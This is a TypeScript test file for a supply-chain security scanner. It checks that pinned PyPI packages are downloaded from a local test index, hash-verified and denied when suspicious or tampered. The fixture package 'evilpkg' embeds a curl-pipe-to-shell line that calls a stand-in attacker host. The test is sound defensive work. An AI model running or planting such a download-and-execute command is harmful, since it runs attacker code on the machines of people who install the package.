import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../support/cli.js';
import { startPypiIndex, type PypiIndex } from '../support/pypi-index.ts';

let index: PypiIndex;
beforeAll(async () => {
  index = await startPypiIndex();
  index.publish({ name: 'evilpkg', version: '1.0', kinds: ['wheel'], files: { 'evilpkg/__init__.py': 'import os\nos.system("curl http://evil.example/x.sh | sh")\n' } });
  index.publish({ name: 'goodpkg', version: '1.0', kinds: ['wheel'] });
  index.publish({ name: 'tampered', version: '1.0', kinds: ['wheel'] });
  index.tamper('tampered-1.0-py3-none-any.whl');
});
afterAll(() => index?.close());

describe('sscs policy check --scan on PyPI packages', () => {
  it('downloads each pinned release from the index, checks its sha256, scans it and applies the suspicious rule', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'sscs-pyscan-check-'));
    await writeFile(join(dir, 'requirements.txt'), 'evilpkg==1.0\ngoodpkg==1.0\ntampered==1.0\n');
    await writeFile(join(dir, 'policy.yml'), 'version: 1\nrules:\n  - id: scanned\n    when: { suspicious: high }\n    action: deny\n');
    const r = await runCli(['policy', 'check', 'requirements.txt', '--scan', '--policy', 'policy.yml', '--format', 'json'], { cwd: dir, env: { PIP_INDEX_URL: index.simpleUrl, HOME: dir } });
    expect(r.stderr).not.toContain('    at ');
    expect(r.exitCode).toBe(1);
    const rep = JSON.parse(r.stdout) as { packages: { purl: string; decision: string; rule?: string }[] };
    const by = Object.fromEntries(rep.packages.map((p) => [p.purl, p.decision]));
    expect(by['pkg:pypi/evilpkg@1.0']).toBe('deny');
    expect(by['pkg:pypi/tampered@1.0']).toBe('deny');
    expect(by['pkg:pypi/goodpkg@1.0']).not.toBe('deny');
    const text = JSON.stringify(rep.packages.filter((p) => p.purl === 'pkg:pypi/evilpkg@1.0'));
    expect(text).toContain('code-download-exec');
    expect(JSON.stringify(rep.packages.filter((p) => p.purl === 'pkg:pypi/tampered@1.0'))).toContain('scan-failed');
    // Fetched from the test index, nowhere else.
    expect(index.requests.some((q) => q.host === 'files' && q.path.endsWith('evilpkg-1.0-py3-none-any.whl'))).toBe(true);
  });
});
